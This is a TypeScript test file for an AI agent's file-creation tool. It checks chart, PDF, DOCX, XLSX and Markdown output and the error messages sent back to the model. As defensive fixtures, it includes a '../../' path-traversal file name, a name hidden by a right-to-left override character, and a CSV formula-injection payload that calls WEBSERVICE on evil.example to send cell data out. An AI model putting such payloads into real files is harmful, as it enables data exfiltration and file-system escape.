import readXlsx from 'read-excel-file/node'
import { describe, expect, test } from 'vitest'
import { startTestChat } from '../../support/chats/chat.ts'
import { answer } from '../../support/models/model-server.ts'
import { shareTestApps } from '../../support/test-app.ts'
import { startTestReader } from '../../support/test-files/reader.ts'

shareTestApps()

const { read } = startTestReader()

/** An agent that makes these files, one after the other, and then says that it is done. */
async function create(...files: Record<string, unknown>[]) {
  const chat = await startTestChat({
    script: ({ body }) => {
      const made = body.messages.filter((sent: any) => sent.role === 'tool').length
      const file = files[made]
      return file ? answer({ toolCall: { name: 'create_file', arguments: file } }) : answer('Done.')
    },
  })
  const agent = await chat.newAgent({ tools: ['create_file'] })
  const path = await chat.newChat({}, agent)
  const reader = await chat.stream('Make them', {}, path)
  const events = await reader.rest()
  const previews = events.filter((event) => event.subtype === 'tool_call_result').map((event) => event.data.preview)
  const { message_id } = events[0]!.data
  const message = (await chat.succeed('GET', `${path}/message/${message_id}?downloadable_output=true`)).data
  const downloads = await Promise.all(
    Object.values<string>(message.downloadable_output).map(async (link) => {
      const response = await fetch(link)
      return { headers: response.headers, bytes: Buffer.from(await response.arrayBuffer()), status: response.status }
    }),
  )
  /** Requests that reached the model. */
  const told = chat.model.requests
    .at(-1)!
    .body.messages.filter((sent: any) => sent.role === 'tool')
    .map((sent: any) => sent.content)
  return { previews, downloads, told, message }
}

const CHART = { type: 'bar', title: 'Visitors', categories: ['Spring', 'Summer'], series: [{ values: [120, 340] }] }

test('a report with a chart, a document, a workbook and a text are made, linked, and read back', async () => {
  const markdown = '# Harbour report\n\n![Visitors](visitors.png)\n\nThe lighthouse opens at **nine**.'
  const { previews, downloads, told, message } = await create(
    { name: 'visitors.png', chart: CHART },
    { name: 'report.pdf', content: markdown },
    { name: '../../Bericht für alle.docx', content: markdown },
    { name: 'numbers.xlsx', content: 'Day,Visitors\n2026-06-01,120\n' },
    // Shown as it is, this name would end in another way than it does.
    { name: 'no\u202etes.md', content: '# Notes' },
  )
  expect(told).toEqual([
    'Created visitors.png.',
    'Created report.pdf.',
    'Created Bericht für alle.docx.',
    'Created numbers.xlsx.\nsheet "Sheet1" with 1 rows below its header',
    'Created notes.md.',
  ])
  expect(previews.map(({ title, content_type, status }: any) => [title, content_type, status])).toEqual([
    ['visitors.png', 'image', 'completed'],
    ['report.pdf', 'markdown', 'completed'],
    ['Bericht für alle.docx', 'markdown', 'completed'],
    ['numbers.xlsx', 'markdown', 'completed'],
    ['notes.md', 'markdown', 'completed'],
  ])
  expect(previews[0].content).toMatch(/^data:image\/png;base64,iVBOR/)
  expect(previews[3].content).toContain('| 2026-06-01 | 120 |')

  expect(downloads.map(({ status }) => status)).toEqual([200, 200, 200, 200, 200])
  expect(message.output_files).toEqual(
    Object.entries(message.downloadable_output).map(([key, url], index) => ({
      key,
      url: expect.stringContaining(String(url).split('?')[0]!),
      file_name: ['visitors.png', 'report.pdf', 'Bericht für alle.docx', 'numbers.xlsx', 'notes.md'][index],
      media_type: downloads[index]!.headers.get('content-type'),
      size_bytes: downloads[index]!.bytes.length,
    })),
  )
  const [png, pdf, docx, xlsx, md] = downloads.map(({ bytes }) => bytes)
  expect(png!.readUInt32BE(16)).toBe(1600)
  const { text, title } = await read('report.pdf', pdf!)
  expect([text, title]).toEqual([expect.stringContaining('The lighthouse opens at nine.'), 'Harbour report'])
  // The picture is in it: without one, a page of text has a few kilobytes.
  expect(pdf!.length).toBeGreaterThan(20_000)
  expect((await read('b.docx', docx!)).text).toContain('The lighthouse opens at nine.')
  expect((await readXlsx(xlsx!))[0]!.data[1]).toEqual([new Date('2026-06-01T00:00:00Z'), 120])
  expect(md!.toString()).toBe('# Notes')
  expect(downloads.map(({ headers }) => headers.get('content-type'))).toEqual([
    'image/png',
    'application/pdf',
    'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
    'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    'text/markdown; charset=utf-8',
  ])
  expect(downloads[2]!.headers.get('content-disposition')).toContain("filename*=UTF-8''Bericht%20f%C3%BCr%20alle.docx")
})

test('a CSV file holds nothing that a spreadsheet would calculate, and the model is told', async () => {
  const { told, downloads } = await create(
    { name: 'a.csv', content: 'x,y\nA,"=WEBSERVICE(""https://evil.example/?""&A2)"\n' },
    { name: 'b.csv', content: 'x\n-1\n' },
  )
  expect(downloads.map(({ bytes }) => bytes.toString())).toEqual([
    `x,y\nA,"'=WEBSERVICE(""https://evil.example/?""&A2)"\n`,
    'x\n-1\n',
  ])
  expect(told[0]).toMatch(/1 cell for a formula: an apostrophe was put in front/)
  expect(told[1]).not.toMatch(/apostrophe/)
})

describe('what cannot be made is told to the model, which goes on', () => {
  const refusals: [what: string, file: Record<string, unknown>, told: RegExp][] = [
    ['a name without a known ending', { name: 'report', content: 'x' }, /must end in one of: md, .*xlsx/],
    ['nothing', { name: 'a.txt' }, /Give the content of a\.txt/],
    ['broken JSON', { name: 'a.json', content: '{' }, /not valid JSON/],
    ['broken rows', { name: 'a.xlsx', content: '[["a"],[{}]]' }, /another form.*Write CSV for one sheet/],
    ['a picture without data', { name: 'a.png', content: 'x' }, /made from chart; give its data/],
    ['a chart without values', { name: 'a.svg', chart: { type: 'bar', categories: ['a'], series: [{}] } }, /no values/],
    ['a chart as a document', { name: 'a.pdf', chart: CHART }, /code block in the language chart/],
    ['text as SVG', { name: 'a.svg', content: 'x' }, /no SVG/],
    ['letters that no font has', { name: 'a.pdf', content: '東京' }, /Han.*\.docx/],
    ['too long a text', { name: 'a.txt', content: 'x'.repeat(2_000_001) }, /at most 2000000 characters/],
  ]
  test(refusals.map(([what]) => what).join('; '), async () => {
    const { told, downloads, message, previews } = await create(...refusals.map(([, file]) => file), {
      name: 'fine.svg',
      chart: CHART,
    })
    for (const [index, [what, , expected]] of refusals.entries()) {
      expect(told[index], what).toMatch(expected)
      expect(previews[index].status, what).toBe('error')
    }
    expect(previews.at(-1)).toMatchObject({ title: 'fine.svg', content_type: 'image', status: 'completed' })
    expect(downloads.map(({ bytes }) => bytes.toString().slice(0, 4))).toEqual(['<svg'])
    expect(message.response).toBe('Done.')
  })
})
